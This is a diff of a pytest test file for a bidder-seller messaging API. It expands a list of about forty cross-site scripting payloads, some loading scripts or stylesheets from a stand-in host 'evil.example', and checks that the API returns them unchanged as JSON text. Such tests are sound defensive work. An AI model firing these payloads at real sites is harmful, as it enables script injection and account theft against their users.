@@ -40,18 +40,48 @@ CONVERSATION = [
     "blocked",
     "created_at",
 ]
-XSS = [
-    "<script>alert(1)</script>",
-    " <img src=x onerror=alert(1)>",
-    '"><svg/onload=alert(1)>',
-    "javascript:alert(1)//",
-    "</textarea><script>alert(1)</script>\n",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "{{constructor.constructor('alert(1)')()}}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-]
+XSS = r"""
+<script>alert(1)</script>
+<SCRIPT SRC=//evil.example/x.js></SCRIPT>
+<scr<script>ipt>alert(1)</scr</script>ipt>
+<img src=x onerror=alert(1)>
+<img src="x` `<script>alert(1)</script>"` `>
+<img/src/onerror=alert(1)>
+<svg onload=alert(1)>
+<svg><script>alert&#40;1&#41;</script></svg>
+<svg><animate onbegin=alert(1) attributeName=x dur=1s>
+<body onload=alert(1)>
+<iframe src=javascript:alert(1)>
+<iframe srcdoc='<script>alert(1)</script>'></iframe>
+<object data=javascript:alert(1)>
+<embed src=javascript:alert(1)>
+<a href=javascript:alert(1)>x</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
+<a href="jav&#x09;ascript:alert(1)">x</a>
+<form action=javascript:alert(1)><input type=submit>
+<button formaction=javascript:alert(1)>x
+<input autofocus onfocus=alert(1)>
+<details open ontoggle=alert(1)>
+<video><source onerror=alert(1)></video>
+<audio src=x onerror=alert(1)>
+<marquee onstart=alert(1)>
+<math><mi//xlink:href="data:x,<script>alert(1)</script>">
+<link rel=stylesheet href=//evil.example/x.css>
+<meta http-equiv=refresh content="0;url=javascript:alert(1)">
+<base href=//evil.example/>
+<style>@import "//evil.example/x.css";</style>
+<div style="background:url(javascript:alert(1))">
+<table background=javascript:alert(1)>
+<!--<img src="--><img src=x onerror=alert(1)//">
+<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+</textarea><script>alert(1)</script>
+</title><script>alert(1)</script>
+"><script>alert(1)</script>
+' onmouseover='alert(1)
+javascript:alert(1)//
+{{constructor.constructor('alert(1)')()}}
+&lt;script&gt;alert(1)&lt;/script&gt;
+""".strip().splitlines()
 
 
 @pytest.fixture
@@ -74,7 +104,8 @@ def sent(client, *arguments, **options):
 def rows(client, path="/api/messages/", **query):
     answer = client.get(path, query)
     assert answer.status_code == 200, answer.json()
-    assert list(answer.json()) == PAGE
+    more = ["unread_count"] if path.endswith("conversations/") else []
+    assert list(answer.json()) == PAGE + more
     return answer.json()["results"]
 
 
@@ -194,17 +225,19 @@ def test_half_a_character_is_refused(both):
     refused(answer, 400, None, "body")
 
 
-@pytest.mark.parametrize("payload", XSS)
-def test_markup_comes_back_unchanged_as_text_in_json(both, payload):
+def test_markup_comes_back_unchanged_as_text_in_json(both):
     bidder, seller = both
-    answer = write(bidder, body=payload)
+    assert len(XSS) == 40
+    for payload in XSS:
+        answer = write(bidder, body=payload)
 
-    for shown in (answer, seller.get("/api/messages/")):
-        assert shown.headers["Content-Type"] == "application/json"
-        assert shown.headers["X-Content-Type-Options"] == "nosniff"
-    assert answer.json()["body"] == payload
-    assert rows(seller)[0]["body"] == payload
-    assert conversations(seller)[0]["last_message"]["body"] == payload
+        for shown in (answer, seller.get("/api/messages/")):
+            assert shown.headers["Content-Type"] == "application/json"
+            assert shown.headers["X-Content-Type-Options"] == "nosniff"
+        assert answer.json()["body"] == payload
+        assert conversations(seller)[0]["last_message"]["body"] == payload
+
+    assert [row["body"] for row in rows(seller, page_size=40)] == XSS[::-1]
 
 
 def test_what_a_client_may_not_set_is_ignored(cast, both):
@@ -232,6 +265,7 @@ def test_conversation_shows_the_other_the_last_message_and_what_is_unread(cast, 
     assert (shown[0]["last_message"], shown[0]["unread_count"]) == (last, 2)
     assert (shown[1]["about"], shown[1]["unread_count"]) == (None, 0)
     assert [row["unread_count"] for row in conversations(bidder)] == [0, 1]
+    assert seller.get("/api/messages/conversations/?page_size=1&page=2").json()["unread_count"] == 2
 
 
 def test_conversation_written_in_last_comes_first(both):
@@ -331,7 +365,7 @@ def test_lists_cost_the_same_however_many_rows(cast, both, django_assert_num_que
         block(seller, UserFactory().pk)
 
     assert cost() == first
-    assert max(first) <= 5, first
+    assert max(first) <= 6, first
 
 
 # -- read receipts ------------------------------------------------------------------------------
